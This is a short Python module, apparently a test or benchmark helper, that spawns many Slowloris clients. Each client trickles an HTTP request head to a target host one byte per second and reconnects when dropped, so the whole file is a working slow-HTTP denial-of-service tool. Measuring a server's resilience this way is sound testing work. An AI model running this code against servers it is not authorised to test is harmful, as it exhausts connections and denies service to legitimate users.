"""Clients that send the head of a request by one byte a second, and come again when they are cut off (Slowloris)."""

from __future__ import annotations

import asyncio
import os
from collections.abc import Generator
from contextlib import contextmanager, suppress
from multiprocessing import get_context

_HEAD = b"POST / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"y" * 10_000

RAMP_SECONDS = 2.0
"""Over which they come, one after the other."""


@contextmanager
def crowd(host: str, clients: int) -> Generator[None]:
    """So many of them, in a process of their own: they must not slow down whoever measures."""
    process = get_context("spawn").Process(target=_run, args=(host, clients))
    process.start()
    try:
        yield
    finally:
        process.terminate()
        process.join()


def _run(host: str, clients: int) -> None:
    os.nice(19)  # elsewhere they would have processors of their own

    async def run() -> None:
        await asyncio.gather(*(_slow(host, RAMP_SECONDS * i / clients) for i in range(clients)))

    asyncio.run(run())


async def _slow(host: str, delay: float) -> None:
    await asyncio.sleep(delay)
    address, port = host.split(":")
    while True:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(address, int(port))
            for byte in _HEAD:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
        await asyncio.sleep(0.2)
